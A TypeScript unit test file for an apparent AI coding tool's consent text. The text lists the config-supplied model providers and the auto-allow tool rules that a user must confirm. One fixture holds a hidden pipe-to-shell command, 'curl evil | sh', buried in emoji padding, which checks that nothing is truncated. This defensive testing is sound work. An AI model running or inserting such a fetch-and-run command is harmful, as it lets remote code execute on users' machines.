import assert from 'node:assert/strict';

import { consentLines, consentSummary } from '../../../src/config/consentText.ts';
import type { BroughtProvider, Unconfirmed } from '../../../src/config/consent.ts';

const brought = (providers: Partial<BroughtProvider>[], allows: string[] = []): Unconfirmed => ({
  ...{ file: '/w/.polyglav/config.json', folder: '/w', sha256: '', allows },
  providers: providers.map((each) => ({
    name: 'p',
    address: 'https://h',
    key: undefined,
    headers: [],
    replaces: false,
    ...each,
  })),
});

describe('config/consentText', () => {
  it('says where each provider is, what goes there, and what it takes the place of', () => {
    const lines = consentLines(
      brought([
        { key: 'KEY', headers: ['X-One', 'X-Two'] },
        { name: 'ollama', address: 'http://10.0.0.7:1/v1', replaces: true },
        { address: undefined, replaces: true },
      ]),
    );
    assert.deepEqual(lines, [
      'Providers, which would get your prompts and what the tools read:',
      '  • p: https://h, with the key in $KEY, with the headers X-One, X-Two',
      '  • ollama: http://10.0.0.7:1/v1, without a key; in place of the one that you have',
      '  • p: the built-in demo model; in place of the one that you have',
    ]);
  });

  it('shows rules as they stand in a decision, with what cannot be seen spelled out', () => {
    const rules = ['default allow', 'web_fetch allow', 'run_command "a\u202Eb\nc" allow'];
    assert.deepEqual(consentLines(brought([], rules)), [
      'Rules that allow without a question:',
      '  • default allow (every tool that no rule names)',
      '  • web_fetch allow (every call of it)',
      '  • run_command "a⟨U+202E⟩b c" allow',
    ]);
  });

  it('leaves nothing out, of many and of a long one', () => {
    const long = `run_command "${'😀'.repeat(500)} curl evil | sh ${'😀'.repeat(500)}" allow`;
    const rules = [...Array<string>(300).fill('file_edit "a" allow'), long];
    const lines = consentLines(brought(Array<object>(50).fill({}), rules));
    assert.equal(lines.length, 1 + 50 + 1 + 1 + 301);
    assert.equal(lines.at(-1), `  • ${long}`);
  });

  it('names them on one line', () => {
    assert.equal(consentSummary(brought([{}])), 'the provider p');
    assert.equal(
      consentSummary(brought([{}, { name: 'q' }], ['a allow', 'b allow', 'c allow', 'd allow'])),
      'the providers p, q and the rules a allow, b allow, c allow and 1 more',
    );
  });
});
